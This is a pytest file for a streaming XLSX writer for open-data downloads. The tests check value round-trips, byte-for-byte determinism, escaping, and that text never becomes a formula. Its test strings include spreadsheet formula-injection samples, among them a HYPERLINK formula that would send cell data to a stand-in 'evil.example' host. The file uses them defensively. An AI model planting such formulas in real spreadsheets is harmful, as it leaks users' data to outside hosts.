"""The streaming XLSX writer of the open-data downloads, read back by openpyxl, python-calamine and a real
spreadsheet application (LibreOffice headless): the same values and types, text exactly as written, never a
formula, the same bytes for the same input."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from generator.sheets.xlsxstream import MAX_TEXT, xlsx_bytes
from generator.site.opendata import to_xlsx
from sheetbooks import soffice_convert

WHEN = datetime(2015, 10, 20, 8, 30, 5)

TEXTS = ["=1+1", '=HYPERLINK("https://evil.example/x?"&A1,"点我")', "+1+1", "-1+1", "@SUM(1+1)", "\tcalc", "#N/A",
         "楚雄州重点项目推进情况", "第一行\n第二行\n第三行", "<b>粗</b> & \"引号\" '单引号' ]]> &amp;", "  前后有空格  ",
         "\n前有换行", "TRUE", "0012", "1e5", "2015-10-20", "中" * 40]
NUMBERS = [0, -5, 3.25, 12_000_000, 0.1 + 0.2, 1e-05, -2.5e20, 2**53]


def _rows() -> list[list[Any]]:
    """A header, rows of every kind of cell, repeated values (one shared string each) and gaps."""
    return [["项目编号", "名称", "金额", "在督", "备注"],
            *[[f"2015-zj-{i:02d}", text, NUMBERS[i % len(NUMBERS)], i % 2 == 0, None if i % 3 else "州交通运输局"]
              for i, text in enumerate(TEXTS)],
            [None, None, 1],  # a row that starts empty and is shorter than the header
            [],  # an empty row
            ["", "末行", None, None, "州交通运输局"]]


def _book(sheets: list[tuple[str, list[list[Any]]]]) -> Any:
    return load_workbook(io.BytesIO(xlsx_bytes(sheets, WHEN)))


def _values(sheet: Any, height: int) -> list[list[Any]]:
    return [[c.value for c in row] for row in sheet.iter_rows(min_row=1, max_row=height)]


def _padded(rows: list[list[Any]], width: int) -> list[list[Any]]:
    return [[None if v == "" else v for v in row] + [None] * (width - len(row)) for row in rows]


def test_openpyxl_reads_back_every_value_and_type() -> None:
    rows = _rows()
    book = _book([("项目", rows), ("说明", [["数据截至", "2015-10-20"], ["说明", "=1+1"]])])
    assert book.sheetnames == ["项目", "说明"]
    sheet = book["项目"]
    assert sheet.dimensions == f"A1:E{len(rows)}"
    assert _values(sheet, len(rows)) == _padded(rows, 5)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    assert {c.data_type for c in cells if type(c.value) in (int, float)} == {"n"}
    assert {c.data_type for c in cells if isinstance(c.value, bool)} == {"b"}
    assert [type(c.value) for c in sheet["C"][1:len(NUMBERS) + 1]] == [type(n) for n in NUMBERS]
    assert _values(book["说明"], 2) == [["数据截至", "2015-10-20"], ["说明", "=1+1"]]
    assert book.properties.creator == "阳光督查"
    assert book.properties.created == book.properties.modified == WHEN


def test_line_breaks_become_lf_edge_spaces_stay_and_long_text_is_cut_as_excel_would() -> None:
    data = xlsx_bytes([("表", [["一\r\n二\r三", "x" * (MAX_TEXT + 10), "  两头空格 ", "\n换行"]])], WHEN)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sst = z.read("xl/sharedStrings.xml").decode()
    # an XML parser reads a raw CR as LF, so only the bytes show it: LF, the same everywhere
    assert "\r" not in sst and "<t>一\n二\n三</t>" in sst
    # without xml:space="preserve" Excel trims the spaces at either end
    assert '<t xml:space="preserve">  两头空格 </t>' in sst and '<t xml:space="preserve">\n换行</t>' in sst
    book = load_workbook(io.BytesIO(data))
    assert _values(book["表"], 1) == [["一\n二\n三", "x" * MAX_TEXT, "  两头空格 ", "\n换行"]]


def test_the_shared_strings_hold_each_text_once() -> None:
    rows = [["州交通运输局", "=1", i] for i in range(2500)]  # more rows than the writer joins at a time
    data = xlsx_bytes([("表", rows), ("说明", [["州交通运输局"]])], WHEN)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sst = ET.fromstring(z.read("xl/sharedStrings.xml"))
        sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert [row.get("r") for row in sheet.iter(f"{main}row")] == [str(r) for r in range(1, 2501)]
    assert [si.findtext(f"{main}t") for si in sst] == ["州交通运输局", "=1"]
    assert sst.get("uniqueCount") == "2"
    book = load_workbook(io.BytesIO(data), read_only=True)
    assert [list(r) for r in book["表"].iter_rows(values_only=True)] == rows
    assert book["说明"]["A1"].value == "州交通运输局"


def test_escapes_that_would_change_the_text_are_escaped() -> None:
    """OOXML reads `_x0041_` as "A": a literal one is written `_x005F_x0041_`, and python-calamine (as Excel
    and WPS) reads back the text as written; a control character (the loader refuses them) is written as
    its escape, keeping the file well-formed XML, instead of failing the build as openpyxl did."""
    from python_calamine import CalamineWorkbook

    texts = ["_x0041_", "a_x000D_b", "_x00_", "snake_case_x", "控制\x01字符\x1f"]
    data = xlsx_bytes([("表", [texts]), ("说明", [["\ufffe\uffff", "\x00"]])], WHEN)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            ET.fromstring(z.read(name))  # every part is well-formed XML
        sst = z.read("xl/sharedStrings.xml").decode()
    assert "_x005F_x0041_" in sst and "a_x005F_x000D_b" in sst and "控制_x0001_字符_x001F_" in sst
    assert "_x00_" in sst and "snake_case_x" in sst and "_xFFFE__xFFFF_" in sst and "_x0000_" in sst
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert book.get_sheet_by_name("表").to_python() == [texts]


def test_columns_past_z_and_past_zz() -> None:
    wide = list(range(1, 731))  # to ABB: the writer's table of letters ends at ZZ
    book = _book([("宽表", [wide, ["末"] * 28])])
    sheet = book["宽表"]
    assert sheet.dimensions == f"A1:{get_column_letter(730)}2"
    assert [sheet.cell(1, c).value for c in (1, 26, 27, 702, 703, 730)] == [1, 26, 27, 702, 703, 730]
    assert sheet["AB2"].value == "末" and sheet["AC2"].value is None
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes([("宽表", [wide])], WHEN))) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert '<c r="ZZ1"><v>702</v></c><c r="AAA1"><v>703</v></c>' in xml


def test_same_input_same_bytes_and_a_valid_zip() -> None:
    sheets = [("项目", _rows()), ("说明", [["许可", "CC BY 4.0"]])]
    data = xlsx_bytes(sheets, WHEN)
    assert data == xlsx_bytes(sheets, WHEN)
    assert data == xlsx_bytes(sheets, WHEN.replace(tzinfo=UTC))  # naive means UTC
    assert data != xlsx_bytes(sheets, WHEN.replace(minute=31))
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert z.testzip() is None
        assert z.namelist() == ["[Content_Types].xml", "_rels/.rels", "docProps/core.xml", "docProps/app.xml",
                                "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml",
                                "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/sharedStrings.xml"]
        for info in z.infolist():
            assert info.date_time == (2015, 10, 20, 8, 30, 4)  # zip times count in two seconds
            assert info.compress_type == zipfile.ZIP_DEFLATED and info.external_attr == 0o644 << 16
        assert b"2015-10-20T08:30:05Z" in z.read("docProps/core.xml")
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(sheets, datetime(1970, 1, 1)))) as z:
        assert {info.date_time for info in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}


@pytest.mark.parametrize(("sheets", "error"), [
    ([("a/b", [])], ValueError), ([("x" * 32, [])], ValueError), ([("", [])], ValueError),
    ([("表", []), ("表", [])], ValueError), ([("表", [[object()]])], TypeError),
    ([("表", [[datetime(2015, 1, 1)]])], TypeError),  # dates go out as text (opendata._cell), never guessed here
])
def test_refuses_what_no_spreadsheet_should_get(sheets: list[tuple[str, list[list[Any]]]], error: type) -> None:
    with pytest.raises(error):
        xlsx_bytes(sheets, WHEN)


def test_nan_and_infinity_are_empty_cells() -> None:
    book = _book([("表", [[float("nan"), 1, float("inf"), 2]])])
    assert _values(book["表"], 1) == [[None, 1, None, 2]]


def test_to_xlsx_names_the_sheets_and_holds_the_meta() -> None:
    title = "一个名字长得超过了三十一个字符的表格一个名字长得超过了三十一个字符的表格"
    book = load_workbook(io.BytesIO(to_xlsx(title, ["编号", "名称"], [["a", "=1"], ["b", None]],
                                            {"数据截至": "2015-10-20", "页数": 3}, WHEN)))
    assert book.sheetnames == [title[:31], "说明"]
    assert _values(book[title[:31]], 3) == [["编号", "名称"], ["a", "=1"], ["b", None]]
    assert _values(book["说明"], 2) == [["数据截至", "2015-10-20"], ["页数", "3"]]


def test_libreoffice_reads_what_we_write(tmp_path: Path) -> None:
    """A real spreadsheet application opens the file without repair and holds the same values: text as text
    (no formula in its own file), numbers as numbers, both sheets by name."""
    from python_calamine import CalamineWorkbook

    rows = _rows()
    path = tmp_path / "表.xlsx"
    path.write_bytes(xlsx_bytes([("项目", rows), ("说明", [["说明", "=1+1"], ["_x0041_", "行一\r\n行二"]])], WHEN))
    out = tmp_path / "lo"
    out.mkdir()
    converted = soffice_convert([path], "ods", out)[0]
    with zipfile.ZipFile(converted) as z:
        content = z.read("content.xml").decode("utf-8")
    # LibreOffice keeps a TRUE or FALSE cell as the formula =TRUE(); no other formula
    assert set(re.findall(r'table:formula="([^"]*)"', content)) == {"of:=TRUE()", "of:=FALSE()"}
    book = CalamineWorkbook.from_path(str(converted))
    assert book.sheet_names == ["项目", "说明"]
    theirs = book.get_sheet_by_name("项目").to_python(skip_empty_area=False)
    # LibreOffice drops a tab from the text of any XLSX cell (openpyxl's files too); TRUE comes back as 1
    ours = [[("" if v is None else float(v) if isinstance(v, bool) else v.replace("\t", "") if isinstance(v, str)
              else v) for v in row] for row in _padded(rows, 5)]
    # a spreadsheet keeps 15 significant digits (2**53 comes back as 9007199254740990)
    assert theirs == [[pytest.approx(v, rel=1e-15) if isinstance(v, int | float) else v for v in row] for row in ours]
    assert book.get_sheet_by_name("说明").to_python() == [["说明", "=1+1"], ["_x0041_", "行一\n行二"]]
